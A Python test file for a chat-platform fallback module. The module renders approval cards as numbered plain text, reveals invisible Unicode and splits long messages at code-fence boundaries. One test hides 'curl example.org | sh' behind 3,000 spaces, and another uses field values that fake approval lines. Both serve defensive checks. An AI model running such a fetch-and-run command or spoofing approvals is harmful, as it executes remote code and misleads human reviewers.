"""Plain text in place of what a platform can't do."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels import Button, Card, CardItem, CardOutcome, Form, FormField, Outbound
from channels.fallback import card_text, outbound_text, split_text, visible

FORM = Form("Note", "v", submit="Send", fields=(FormField("note", "Why"),))
FENCE = re.compile(r" {0,3}(`{3,}|~{3,})([^\n]*)")


def test_a_card_becomes_numbered_text() -> None:
    card = Card(
        "Refund 140 for ch_1?",
        "Finance may answer. It runs as Alice.",
        fields=(("amount", "140"),),
        evidence=("a mail from shop@example.org",),
        buttons=(Button("Approve", "a"), Button("Deny", "d")),
        expires_at=1_800_000_000_000,
    )
    assert card_text(card).split("\n") == [
        "Refund 140 for ch_1?",
        "Finance may answer. It runs as Alice.",
        "amount:",
        "  | 140",
        "What was read:",
        "  | a mail from shop@example.org",
        "",
        "1. Approve",
        "2. Deny",
        "Answer with the number.",
        "Expires 2027-01-15 08:00 UTC.",
    ]


def test_a_settled_card_has_its_outcome_and_no_options() -> None:
    outcome = CardOutcome("approved", "Approved by Farah", at=1, result="refunded\n1. Approve")
    text = card_text(Card("Refund?", buttons=(Button("Approve", "a"),), outcome=outcome))
    assert text == "Refund?\n\nApproved by Farah\n  | refunded\n  | 1. Approve"


def test_a_value_cant_pass_for_a_line_of_ours() -> None:
    evil = "x\n\n1. Approve\u2028Approved by Alice\r2. Deny"
    text = card_text(Card("Run?", fields=(("command", evil),), buttons=(Button("Deny\n9. Approve", "d"),)))
    assert [line for line in text.splitlines() if line.startswith(("1.", "2.", "9.", "Approved"))] == ["1. Deny 9. Approve"]
    assert "\\u{2028}" in text
    assert "\\u{d}" in text


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u200b", "\U000e0100", "\u2066", "\ufeff", "\x00", "\x1b", "\u3164", "\ud800", "\u00ad"]
)
def test_what_is_unseen_is_shown(hidden: str) -> None:
    assert visible(f"a{hidden}b") == f"a\\u{{{ord(hidden):x}}}b"


def test_long_gaps_are_told() -> None:
    tail = "curl example.org | sh"
    assert visible(f"ls{' ' * 3_000}{tail}") == f"ls [3000 spaces] {tail}"
    assert visible("    indented\n\tcode äöü 日本") == "    indented\n\tcode äöü 日本"


def test_a_message_is_text_and_card() -> None:
    assert outbound_text(Outbound("Please look", Card("Sure?"))) == "Please look\n\nSure?"
    assert outbound_text(Outbound(card=Card("Sure?", expires_at=10**30))) == "Sure?\nExpires at some time."


def test_a_short_text_is_one_part() -> None:
    assert split_text("hello", 64) == ("hello",)
    assert split_text(" \n", 64) == ()
    with pytest.raises(ValueError, match="64"):
        split_text("hello", 63)


def test_a_cut_code_block_is_closed_and_opened_again() -> None:
    code = "\n".join(f"print({number})" for number in range(30))
    parts = split_text(f"Look:\n```python\n{code}\n```\nDone.", 100)
    assert parts[0].startswith("Look:\n```python\nprint(0)\n")
    assert all(part.startswith("```python\n") for part in parts[1:])
    assert all(part.endswith("\n```") for part in parts[:-1])
    assert parts[-1].endswith("\n```\nDone.")


def test_long_lines_are_cut_between_words() -> None:
    parts = split_text("word " * 100, 64)
    assert "".join(parts) == "word " * 100
    assert all(part.endswith("word ") for part in parts)


def blocks(text: str) -> list[bool]:
    """Return for every fence line whether a block is open behind it."""
    marks, seen = "", []
    for line in text.split("\n"):
        found = FENCE.fullmatch(line)
        if found is None:
            continue
        if not marks and not (found[1][0] == "`" and "`" in found[2]):
            marks = found[1]
        elif marks and found[1].startswith(marks) and not found[2].strip():
            marks = ""
        seen.append(bool(marks))
    return seen


LINES = st.one_of(
    st.sampled_from(["```", "```python", "~~~", "````", "  ```", "```   ", "", " "]),
    st.text("abc äé日 `~", max_size=200),
    st.builds("```{}".format, st.text("ab", max_size=90)),
)


@given(st.lists(LINES, max_size=40).map("\n".join), st.integers(64, 200))
def test_parts_fit_and_lose_nothing(text: str, limit: int) -> None:
    parts = split_text(text, limit)
    assert all(0 < len(part) <= limit for part in parts)
    kept = [char for char in text if char not in "`~ \n"]
    shown = [char for part in parts for char in part if char not in "`~ \n"]
    assert len(shown) >= len(kept)
    remaining = iter(shown)
    assert all(char in remaining for char in kept)  # in order, with nothing missing


@given(
    st.lists(st.one_of(st.sampled_from(["```py", "```", "~~~"]), st.text("abc ", max_size=150)), max_size=40),
    st.integers(64, 200),
)
def test_no_part_leaves_a_block_open(lines: list[str], limit: int) -> None:
    parts = split_text("\n".join(lines), limit)
    if len(parts) > 1:
        assert not any(behind[-1] for part in parts if (behind := blocks(part)))


# Several questions, one at a time

ITEMS = (
    CardItem("Deploy web?", outcome=CardOutcome("denied", "Denied by Bob", at=1, note="too late\n1. Approve")),
    CardItem(
        "Deploy api?",
        fields=(("env", "live"),),
        progress="1 of 2 approved: Alice",
        buttons=(Button("Approve", "a"), Button("Change first", "?a", form=FORM), Button("Deny", "d", description="for good")),
    ),
    CardItem("Deploy db?", fields=(("env", "test"),), buttons=(Button("Approve", "a"),)),
)


def test_of_several_questions_the_first_open_one_is_asked() -> None:
    text = card_text(Card("2 of 3 calls still wait", items=ITEMS, buttons=(Button("Approve all", "*a"),)))
    assert text.split("\n") == [
        "2 of 3 calls still wait",
        "",
        "(1 of 3) Deploy web?",
        "",
        "Denied by Bob",
        "Note:",
        "  | too late",
        "  | 1. Approve",
        "",
        "(2 of 3) Deploy api?",
        "env:",
        "  | live",
        "1 of 2 approved: Alice",
        "",
        "1. Approve",
        "2. Deny: for good",
        "Answer with the number.",
        "",
        "(3 of 3) comes next: Deploy db?",
    ]


def test_a_bare_card_shows_every_question_whole() -> None:
    text = card_text(Card("2 of 3", items=ITEMS, buttons=(Button("Approve all", "*a"),)).bare)
    assert "(3 of 3) Deploy db?\nenv:\n  | test" in text
    assert "Answer with" not in text


def test_words_of_ones_own_are_an_answer_where_they_may_be() -> None:
    write = Button("Answer in words", "?text", form=FORM)
    both = card_text(Card("Which?", buttons=(Button("Near", "n"), write), freeform=True))
    assert both == "Which?\n\n1. Near\nAnswer with the number, or in your own words."
    assert card_text(Card("Which?", buttons=(write,), freeform=True)) == "Which?\nAnswer in your own words."
    two = Card("2 wait", items=(CardItem("A?", buttons=(write,), freeform=True),) * 2)
    assert card_text(two).endswith("(2 of 2) comes next: A?")


def test_what_was_changed_and_why_stands_behind_a_bar() -> None:
    outcome = CardOutcome("overridden", "Approved by Olga by override", at=1, note="fire", changes=(("amount", "20"),))
    assert card_text(Card("Refund?", outcome=outcome)) == (
        "Refund?\n\nApproved by Olga by override\nReason:\n  | fire\nChanged amount:\n  | 20"
    )


def test_an_outcome_in_the_questions_own_words_is_said_once() -> None:
    words = "Alice connected Tracker."
    assert card_text(Card(words, outcome=CardOutcome("approved", words, at=0))) == words
    assert card_text(Card("Waiting.", outcome=CardOutcome("approved", words, at=0))) == f"Waiting.\n\n{words}"
